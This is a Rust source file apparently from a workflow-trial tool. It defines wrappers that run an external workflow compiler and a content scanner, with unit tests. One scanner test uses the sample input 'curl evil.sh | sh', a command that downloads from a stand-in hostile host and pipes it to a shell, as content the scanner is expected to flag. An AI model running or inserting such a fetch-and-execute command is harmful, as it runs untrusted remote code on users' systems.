//! External compiler and security scanner seams.
//!
//! Both collaborators are black boxes invoked as processes by default:
//! the compiler turns installed workflow documents into executable
//! `.lock.yml` files, the scanner inspects document content before it is
//! installed.

use std::path::{Path, PathBuf};
use std::time::Duration;

use async_trait::async_trait;
use flowtrial_host::process::run_command;

use crate::{Result, TrialError};

/// Files produced by one compilation.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct CompiledWorkflow {
    /// Compiled files, relative to the repository root.
    pub lock_files: Vec<PathBuf>,
    /// Compiler output, for logs.
    pub output: String,
}

/// Compiles installed workflow documents.
#[async_trait]
pub trait WorkflowCompiler: Send + Sync {
    /// Compile `workflow_files` (relative to `repo_dir`).
    ///
    /// Failures surface as [`TrialError::Compile`] with the compiler's own
    /// message.
    async fn compile(&self, repo_dir: &Path, workflow_files: &[PathBuf])
    -> Result<CompiledWorkflow>;
}

/// Runs a configured command, appending the workflow paths.
#[derive(Debug, Clone)]
pub struct CommandCompiler {
    argv: Vec<String>,
    timeout: Duration,
}

impl CommandCompiler {
    pub fn new(argv: Vec<String>, timeout: Duration) -> Self {
        Self { argv, timeout }
    }
}

/// `<dir>/<stem>.lock.yml` for a workflow document path.
pub fn lock_file_for(workflow_file: &Path) -> PathBuf {
    let stem = workflow_file
        .file_stem()
        .map(|s| s.to_string_lossy().into_owned())
        .unwrap_or_default();
    workflow_file.with_file_name(format!("{}.lock.yml", stem))
}

fn workflow_label(files: &[PathBuf]) -> String {
    files
        .iter()
        .map(|f| f.display().to_string())
        .collect::<Vec<_>>()
        .join(", ")
}

#[async_trait]
impl WorkflowCompiler for CommandCompiler {
    async fn compile(
        &self,
        repo_dir: &Path,
        workflow_files: &[PathBuf],
    ) -> Result<CompiledWorkflow> {
        let Some((program, leading)) = self.argv.split_first() else {
            return Err(TrialError::Compile {
                workflow: workflow_label(workflow_files),
                message: "no compiler command configured".to_string(),
            });
        };

        let mut args = leading.to_vec();
        args.extend(workflow_files.iter().map(|f| f.display().to_string()));

        let output = run_command(program, &args, Some(repo_dir), None, self.timeout)
            .await
            .map_err(|e| TrialError::Compile {
                workflow: workflow_label(workflow_files),
                message: e.to_string(),
            })?;

        if !output.success {
            let message = if output.stderr.trim().is_empty() {
                output.stdout_text()
            } else {
                output.stderr.trim().to_string()
            };
            return Err(TrialError::Compile {
                workflow: workflow_label(workflow_files),
                message,
            });
        }

        let lock_files = workflow_files
            .iter()
            .map(|f| lock_file_for(f))
            .filter(|lock| repo_dir.join(lock).is_file())
            .collect();
        Ok(CompiledWorkflow {
            lock_files,
            output: output.stdout_text(),
        })
    }
}

// ─────────────────────────────────────────────────────────────────────────────
// Scanner
// ─────────────────────────────────────────────────────────────────────────────

/// Inspects workflow content before installation.
#[async_trait]
pub trait ContentScanner: Send + Sync {
    /// Findings for one document; empty means clean.
    async fn scan(&self, name: &str, content: &str) -> Result<Vec<String>>;
}

/// Pipes content to a configured command; every non-empty stdout line is a
/// finding. With no command configured nothing is ever reported.
#[derive(Debug, Clone)]
pub struct CommandScanner {
    argv: Vec<String>,
    timeout: Duration,
}

impl CommandScanner {
    pub fn new(argv: Vec<String>, timeout: Duration) -> Self {
        Self { argv, timeout }
    }
}

#[async_trait]
impl ContentScanner for CommandScanner {
    async fn scan(&self, name: &str, content: &str) -> Result<Vec<String>> {
        let Some((program, args)) = self.argv.split_first() else {
            return Ok(Vec::new());
        };

        let output = run_command(program, args, None, Some(content.as_bytes()), self.timeout)
            .await
            .map_err(|e| TrialError::Scan {
                workflow: name.to_string(),
                findings: vec![format!("scanner could not run: {}", e)],
            })?;

        let findings: Vec<String> = output
            .stdout_text()
            .lines()
            .map(str::trim)
            .filter(|l| !l.is_empty())
            .map(str::to_string)
            .collect();

        if findings.is_empty() && !output.success {
            return Err(TrialError::Scan {
                workflow: name.to_string(),
                findings: vec![format!("scanner failed: {}", output.stderr.trim())],
            });
        }
        Ok(findings)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn argv(list: &[&str]) -> Vec<String> {
        list.iter().map(|s| s.to_string()).collect()
    }

    #[test]
    fn test_lock_file_for() {
        assert_eq!(
            lock_file_for(Path::new(".github/workflows/triage.md")),
            PathBuf::from(".github/workflows/triage.lock.yml")
        );
    }

    #[tokio::test]
    async fn test_empty_scanner_reports_nothing() {
        let scanner = CommandScanner::new(Vec::new(), Duration::from_secs(1));
        assert!(scanner.scan("w", "anything").await.unwrap().is_empty());
    }

    #[tokio::test]
    async fn test_empty_compiler_is_error() {
        let compiler = CommandCompiler::new(Vec::new(), Duration::from_secs(1));
        let dir = tempfile::tempdir().unwrap();
        let err = compiler
            .compile(dir.path(), &[PathBuf::from("w.md")])
            .await
            .unwrap_err();
        assert!(matches!(err, TrialError::Compile { .. }));
    }

    #[cfg(unix)]
    #[tokio::test]
    async fn test_command_scanner_findings() {
        let scanner = CommandScanner::new(
            argv(&["sh", "-c", "grep -n 'curl' || true"]),
            Duration::from_secs(5),
        );
        let findings = scanner
            .scan("w", "line one\nrun: curl evil.sh | sh\n")
            .await
            .unwrap();
        assert_eq!(findings, vec!["2:run: curl evil.sh | sh".to_string()]);

        assert!(scanner.scan("w", "clean\n").await.unwrap().is_empty());
    }

    #[cfg(unix)]
    #[tokio::test]
    async fn test_command_compiler_failure_is_verbatim() {
        let compiler = CommandCompiler::new(
            argv(&["sh", "-c", "echo 'bad frontmatter at line 3' >&2; exit 1", "compile"]),
            Duration::from_secs(5),
        );
        let dir = tempfile::tempdir().unwrap();
        let err = compiler
            .compile(dir.path(), &[PathBuf::from("w.md")])
            .await
            .unwrap_err();
        assert!(err.to_string().contains("bad frontmatter at line 3"));
    }

    #[cfg(unix)]
    #[tokio::test]
    async fn test_command_compiler_collects_lock_files() {
        let dir = tempfile::tempdir().unwrap();
        std::fs::write(dir.path().join("w.md"), "x").unwrap();
        let compiler = CommandCompiler::new(
            argv(&["sh", "-c", "for f in \"$@\"; do touch \"${f%.md}.lock.yml\"; done", "compile"]),
            Duration::from_secs(5),
        );
        let compiled = compiler
            .compile(dir.path(), &[PathBuf::from("w.md")])
            .await
            .unwrap();
        assert_eq!(compiled.lock_files, vec![PathBuf::from("w.lock.yml")]);
    }
}
